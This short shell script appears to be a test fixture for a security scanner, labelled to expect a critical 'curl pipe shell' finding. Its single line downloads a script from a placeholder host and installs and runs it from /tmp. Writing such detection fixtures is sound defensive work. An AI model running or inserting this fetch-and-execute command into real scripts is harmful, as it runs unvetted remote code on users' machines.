# expect: shell.curl_pipe_shell critical
#!/bin/sh
curl -s https://get.example.net/i.sh | install -m 755 /dev/stdin /tmp/run && /tmp/run
